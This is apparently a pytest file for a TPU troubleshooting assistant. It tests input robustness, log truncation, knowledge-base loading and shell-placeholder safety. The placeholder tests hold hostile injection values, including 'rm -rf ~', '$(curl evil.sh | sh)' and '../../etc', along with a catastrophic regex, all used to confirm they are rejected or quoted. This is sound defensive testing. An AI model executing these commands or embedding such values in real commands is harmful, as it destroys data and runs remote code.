"""Bad input, hostile text and user knowledge: nothing crashes, nothing dangerous is built."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant import placeholders
from assistant.kb import load_knowledge
from assistant.text.normalize import MAX_CHARS, normalize
from assistant.text.parse import parse

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "tests" / "fixtures" / "broken" / "valid" / "sample-entry.yaml"

ANSWER_KEYS = {"abstained", "results", "facts", "lang", "values", "notes", "set_aside", "resembles"}
RESULT_KEYS = {"id", "title", "score", "confidence", "why", "source"}

texty = st.one_of(
    st.text(max_size=2000),
    st.binary(max_size=2000),
    st.text(
        alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "So", "Mn"]),
        max_size=500,
    ),
    st.lists(
        st.sampled_from(
            [
                "ResourceExhaustedError: ",
                "hbm",
                "\x1b[31m",
                "[bold]",
                "\n",
                "XLA_TPU_JIT",
                "None",
                "0x7f3a",
                "v3-8",
                "--zone=",
                "é",
                "🔥",
                "\u202e",
                "\x00",
                "{{node a}}",
                "[link=http://x]",
            ]
        ),
        max_size=60,
    ).map("".join),
)


def _check_shape(d: dict) -> None:
    assert set(d) == ANSWER_KEYS
    assert isinstance(d["abstained"], bool)
    for r in d["results"]:
        assert set(r) == RESULT_KEYS and 0.0 <= r["confidence"] <= 1.0
    json.dumps(d)  # always serializable


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texty)
def test_parser_never_raises(raw):
    facts = parse(raw)
    assert isinstance(facts.to_dict(), dict)
    json.dumps(facts.to_dict())


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(texty)
def test_ask_never_raises_and_keeps_its_shape(engine, raw):
    _check_shape(engine.ask(raw).to_dict())


@pytest.mark.parametrize(
    "raw",
    [
        "",
        "   \n\t ",
        b"\x00\xff\xfe\x80",
        "\x00" * 1000,
        "x" * 1_000_000,
        "ResourceExhaustedError: Ran out of memory in memory space hbm " + "é🔥" * 1000,
        "مرحبا بالعالم، هذا نص عربي",
        "今日はTPUのメモリが足りません",
        "\u202eevil\u202c text",
    ],
)
def test_odd_inputs(engine, raw):
    _check_shape(engine.ask(raw).to_dict())


def test_huge_log_is_cut_to_key_lines_and_says_so(engine):
    noise = "I0302 11:04:12.118 1 x.cc:1] step 1234 loss=0.1234 examples/sec=100\n"
    raw = (
        noise
        * 150_000
        + "tensorflow.python.framework.errors_impl.ResourceExhaustedError: Ran out of memory in "
        "memory space hbm; used: 9.82G; limit: 7.48G.\n"
    )
    assert len(raw) > MAX_CHARS
    a = engine.ask(raw)
    assert a.facts.truncated and any("cut" in n for n in a.notes)
    assert a.best.id == "hbm-oom" and not a.abstained


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_a_cut_input_keeps_the_line_numbers_as_pasted(newline):
    """Past MAX_CHARS only the head and the tail are read; a tail line keeps its number in the
    whole input (it was counted from the cut, so an error on line 150,001 was called 29,402)."""
    noise = "I0302 11:04:12.118 1 x.cc:1] step 1234 loss=0.1234 examples/sec=100" + newline
    error = "ResourceExhaustedError: Ran out of memory in memory space hbm"
    norm = normalize(noise * 150_000 + error + newline + noise * 10)
    assert norm.truncated
    at = next(i for i, line in enumerate(norm.lines) if line.startswith("ResourceExhausted"))
    assert norm.line_numbers[at] == 150_001
    assert norm.line_numbers[0] == 1 and norm.line_numbers[-1] == 150_011


def test_one_hundred_thousand_lines(engine):
    raw = (
        "\n".join(f"line {i}" for i in range(100_000))
        + "\nNotFoundError: No registered 'StringSplitV2' OpKernel for XLA_TPU_JIT devices"
    )
    a = engine.ask(raw)
    assert a.best.id == "op-unavailable"


def test_cli_bad_stdin(run_cli):
    r = run_cli("ask", "--json", "-", input=b"\xff\xfe\x00\x01garbage\x80")
    assert r.returncode == 0 and b"Traceback" not in r.stderr
    assert set(json.loads(r.stdout)) == ANSWER_KEYS
    empty = run_cli("ask", "-", input=b"  \n ")
    assert empty.returncode == 2 and b"empty" in empty.stderr and b"Traceback" not in empty.stderr


# -- hostile placeholder values -----------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "x; rm -rf ~",
        "$(curl evil.sh | sh)",
        "`id`",
        "a b",
        "my-tpu\nrm -rf /",
        "UPPER",
        "-rf",
        "../../etc",
    ],
)
def test_known_placeholders_refuse_hostile_values(value):
    with pytest.raises(placeholders.PlaceholderError):
        placeholders.fill("gcloud compute tpus tpu-vm stop {tpu_name}", {"tpu_name": value})


def test_other_values_are_always_shell_quoted():
    cmd, missing = placeholders.fill("echo {note_text}", {"note_text": "$(curl x); rm -rf ~"})
    assert cmd == "echo '$(curl x); rm -rf ~'" and missing == []
    assert placeholders.fill("ls {log_dir}", {})[0] == "ls {log_dir}"


def test_hostile_facts_never_become_values():
    facts = parse("gcloud compute tpus tpu-vm ssh 'x;rm' --zone=us-central1-b --project=$(id)")
    values = facts.values()
    assert values.get("zone") == "us-central1-b"
    assert "project" not in values and values.get("tpu_name") != "'x;rm'"


def test_walk_cli_refuses_injected_value(run_cli):
    r = run_cli("walk", "tpu-connection", "--set", "tpu_name=$(curl evil)", "--json")
    assert r.returncode == 2 and b"is not valid here" in r.stderr and r.stdout == b""


# -- regexes cannot hang ------------------------------------------------------------------------


@pytest.mark.timeout(30)
def test_catastrophic_regex_in_a_user_entry_cannot_hang(tmp_path):
    from assistant.retrieval.signatures import match_signatures

    text = SAMPLE.read_text().replace(
        r"'SampleError: (?P<op_name>\w+) failed'", r"'(?P<op_name>(a+)+)+$'"
    )
    (tmp_path / "sample-entry.yaml").write_text(text)
    kb = load_knowledge(builtin=tmp_path, user_dirs=[])
    hits = match_signatures(kb.entries, ["a" * 200_000 + "!"])
    assert hits == []


# -- user knowledge -----------------------------------------------------------------------------


def _user_entry(tmp_path: Path, name: str = "my-runbook", extra: str = "") -> Path:
    d = tmp_path / "userkb"
    d.mkdir(exist_ok=True)
    text = SAMPLE.read_text().replace("id: sample-entry", f"id: {name}")
    text = text.replace("the sample thing breaks", "our flux capacitor quantum widget explodes")
    (d / f"{name}.yaml").write_text(text + extra)
    return d


def test_user_entries_are_indexed_and_marked(tmp_path, run_cli, cli_env):
    d = _user_entry(tmp_path)
    env = dict(cli_env, TPU_ASSIST_INDEX_DIR=str(tmp_path / "idx"))
    shutil.copytree(cli_env["TPU_ASSIST_INDEX_DIR"], tmp_path / "idx")  # reuse vectors: fast
    r = run_cli("--kb", str(d), "ask", "--json", "SampleError: Conv2D failed", env=env)
    assert r.returncode == 0, r.stderr.decode()
    best = json.loads(r.stdout)["results"][0]
    assert best["id"] == "my-runbook" and best["source"] == "user"
    listed = json.loads(run_cli("--kb", str(d), "kb", "list", "--json", env=env).stdout)
    assert {"id": "my-runbook", "source": "user"}.items() <= next(
        e for e in listed if e["id"] == "my-runbook"
    ).items()


def test_broken_user_entry_is_skipped_with_warning(tmp_path, run_cli):
    d = _user_entry(tmp_path)
    (d / "broken.yaml").write_text("id: broken\ntitle: [unclosed\n")
    (d / "hbm-oom.yaml").write_text((ROOT / "knowledge" / "hbm-oom.yaml").read_text())
    kb = load_knowledge(user_dirs=[d])
    assert "my-runbook" in kb.ids() and "broken" not in kb.ids()
    assert any("broken.yaml" in w and "E001" in w for w in kb.warnings)
    assert any("already exists" in w for w in kb.warnings)
    assert sum(1 for i in kb.ids() if i == "hbm-oom") == 1
    r = run_cli("--kb", str(d), "kb", "list")
    assert r.returncode == 0 and b"warning: skipped user entry" in r.stderr
    v = run_cli("kb", "validate", str(d))
    assert v.returncode == 2 and b"broken.yaml:3: E001" in v.stdout


def test_two_processes_building_at_once(tmp_path, cli_env):
    env = dict(cli_env, TPU_ASSIST_INDEX_DIR=str(tmp_path / "idx"))
    shutil.copytree(cli_env["TPU_ASSIST_INDEX_DIR"], tmp_path / "idx")
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "assistant", "kb", "build", "--force"],
            env=env,
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for _ in range(2)
    ]
    outs = [p.communicate(timeout=300) for p in procs]
    assert all(p.returncode == 0 for p in procs), outs
    from assistant import store

    kb = load_knowledge(user_dirs=[])
    assert store.load(tmp_path / "idx", kb).faiss_index.ntotal > 0
